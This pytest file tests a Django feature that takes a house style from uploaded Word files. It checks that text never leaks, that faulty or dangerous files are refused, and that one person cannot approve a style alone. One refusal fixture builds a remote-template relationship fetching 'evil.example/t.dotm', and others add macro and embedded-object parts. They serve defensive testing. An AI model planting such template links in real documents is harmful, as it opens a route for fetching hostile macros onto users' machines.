"""The look of Word files: what is taken from an upload, what is refused, and that nobody puts one in force alone."""

import io
import json
import zipfile

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document as open_word
from docx.oxml.ns import qn
from docx.shared import Cm, Pt, RGBColor

from dfs_mou import query
from dfs_mou.documents import bilingual_docx, docx, house_sample, house_style
from dfs_mou.documents.bilingual import Bilingual
from dfs_mou.models import HouseStyle
from dfs_workflow.documents.docx_gate import RefusedFile
from tests.dfs_mou.mou_content import pair_document
from tests.dfs_mou.test_document_formats import word_errors

ADDRESS = "dfs_mou_house_style"


def restyled(change=None):
    """The file that the site gives to begin with, as somebody changed it in their word processor."""
    word = open_word(io.BytesIO(house_sample.render()))
    heading = word.styles["Heading 1"]
    heading.font.name, heading.font.size, heading.font.color.rgb = "Georgia", Pt(17), RGBColor(0x66, 0x00, 0x22)
    heading.font.italic, heading.font.bold = True, False
    heading.paragraph_format.space_before = Pt(31)
    word.styles["Normal"].font.name = "Garamond"
    section = word.sections[0]
    section.page_width, section.page_height = Cm(21.59), Cm(27.94)
    section.left_margin = section.right_margin = Cm(3)
    word.add_paragraph("SECRET TEXT")
    section.header.paragraphs[0].text = "SECRET HEAD"
    if change:
        change(word)
    out = io.BytesIO()
    word.save(out)
    return out.getvalue()


def with_part(data, name, content):
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(name, content)
    return out.getvalue()


def look():
    return json.dumps(house_style.read(restyled()), sort_keys=True)


def test_our_own_styles_come_back_as_they_are():
    ours = json.dumps(house_style.read(house_sample.render()), sort_keys=True)
    document = pair_document("sn-artp-bceao", "fr")
    plain, same = (zipfile.ZipFile(io.BytesIO(docx.render(document, given))) for given in ("", ours))
    assert same.read("word/document.xml") == plain.read("word/document.xml")
    names = open_word(io.BytesIO(docx.render(document, ours))).styles
    assert names["Heading 1"].font.size == Pt(13)
    assert json.dumps(house_style.read(house_sample.render(ours)), sort_keys=True) == ours


def test_fonts_colours_spacing_and_page_are_taken_and_never_a_text():
    data = docx.render(pair_document("sn-artp-bceao", "fr"), look())
    word = open_word(io.BytesIO(data))
    heading = word.styles["Heading 1"]
    assert (heading.font.name, heading.font.size, heading.font.italic) == ("Georgia", Pt(17), True)
    assert str(heading.font.color.rgb) == "660022"
    assert heading.paragraph_format.space_before == Pt(31)
    assert not heading.font.bold
    assert word.sections[0].page_width.cm == pytest.approx(21.59, abs=0.01)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert not any(b"SECRET" in package.read(name) for name in package.namelist())


@pytest.mark.parametrize("language", ["en", "fr"])
def test_a_file_in_somebodys_house_style_is_valid_and_has_the_same_bytes_again(language, tmp_path):
    document = pair_document("sn-artp-bceao", language)
    data = docx.render(document, look())
    assert docx.render(document, look()) == data
    assert word_errors(data, tmp_path) == []


def test_two_columns_fit_between_the_margins_of_the_house_style(tmp_path):
    pair = Bilingual(*(pair_document("sn-artp-bceao", language) for language in ("fr", "en")))
    assert word_errors(bilingual_docx.render(pair, look()), tmp_path) == []


def without_styles(word):
    for name in ("MOU Item", "MOU Cover"):
        word.styles[name].element.getparent().remove(word.styles[name].element)


def narrow(word):
    word.sections[0].left_margin = word.sections[0].right_margin = Cm(7)


def sized(value):
    def change(word):
        word.styles["Heading 1"].element.rPr.find(qn("w:sz")).set(qn("w:val"), value)

    return change


REFUSED = [
    *((lambda size=size: restyled(sized(size)), "too small or too large") for size in ("0", "999", "٣٢")),
    (lambda: restyled(without_styles), "missing: MOU Item, MOU Cover"),
    (lambda: restyled(narrow), "margins leave no room"),
    (lambda: with_part(restyled(), "word/vbaProject.bin", b"x"), "macros or embedded objects"),
    (lambda: with_part(restyled(), "word/embeddings/a.xlsx", b"x"), "macros or embedded objects"),
    (
        lambda: with_part(
            restyled(),
            "word/_rels/settings.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
            ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
            ' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        ),
        "fetches something from elsewhere",
    ),
    (lambda: b"no file at all", "no Word file"),
]


@pytest.mark.parametrize(("make", "words"), REFUSED, ids=[f"{number} {row[1]}" for number, row in enumerate(REFUSED)])
def test_what_cannot_serve_is_refused_with_the_reason(make, words):
    with pytest.raises(RefusedFile, match=words):
        house_style.read(make())


def test_fonts_of_the_theme_are_found_and_odd_values_left_out():
    def change(word):
        fonts = word.styles["Normal"].element.rPr.rFonts
        fonts.set(fonts.nsmap["w"].join("{}") + "asciiTheme", "majorHAnsi")
        word.styles["MOU Cover"].element.rPr.find(fonts.tag.replace("rFonts", "color")).set(
            fonts.tag.replace("rFonts", "val"), "javascript"
        )

    read = house_style.read(restyled(change))
    assert {row[0]: row[1] for row in read["styles"]["Normal"]["run"]}["rFonts"]["ascii"] == "Calibri"
    assert "color" not in [row[0] for row in read["styles"]["MOU Cover"]["run"]]


# In the admin


def person(model, name, *rights):
    user = model.objects.create_user(name, f"{name}@example.org", "x")
    user.user_permissions.add(*Permission.objects.filter(codename__in=["access_admin", *rights]))
    return user


@pytest.mark.django_db
def test_one_proposes_and_another_one_puts_in_force(client, django_user_model, edition):
    proposer = person(django_user_model, "proposer", "add_housestyle", "approve_housestyle")
    other = person(django_user_model, "other", "approve_housestyle")
    address = reverse(ADDRESS)
    client.force_login(proposer)
    file = SimpleUploadedFile("house.docx", restyled())
    client.post(address, {"act": "propose", "name": "Ministry", "file": file})
    style = HouseStyle.objects.get()
    client.post(address, {"act": "approve", "style": style.pk})
    assert query.look_in_force() == ""
    client.force_login(other)
    assert "Ministry" in client.get(address).content.decode()
    assert client.get(reverse("dfs_mou_house_style_file", args=[style.pk, "fr"])).content.startswith(b"PK")
    client.post(address, {"act": "approve", "style": style.pk})
    assert query.look_in_force() == look()
    made = client.post("/api/v1/mou/documents", {"language": "en", "format": "docx"}, content_type="application/json")
    assert open_word(io.BytesIO(made.content)).styles["Heading 1"].font.name == "Georgia"
    client.post(address, {"act": "drop", "style": style.pk})
    assert HouseStyle.objects.exists()
    client.force_login(proposer)
    client.post(address, {"act": "propose_ours"})
    client.force_login(other)
    client.post(address, {"act": "approve", "style": HouseStyle.objects.latest("pk").pk})
    assert query.look_in_force() == ""


@pytest.mark.django_db
def test_a_refused_file_is_told_and_others_see_nothing(client, django_user_model):
    address = reverse(ADDRESS)
    client.force_login(person(django_user_model, "proposer", "add_housestyle"))
    file = SimpleUploadedFile("house.docx", restyled(without_styles))
    answer = client.post(address, {"act": "propose", "file": file}, follow=True)
    assert "MOU Item, MOU Cover" in answer.content.decode()
    assert not HouseStyle.objects.exists()
    assert client.get(reverse("dfs_mou_house_style_file", args=[0])).content.startswith(b"PK")
    client.force_login(person(django_user_model, "reader"))
    for url in (address, reverse("dfs_mou_house_style_file", args=[0])):
        assert client.get(url).status_code in (302, 403)
    assert not HouseStyle.objects.exists()
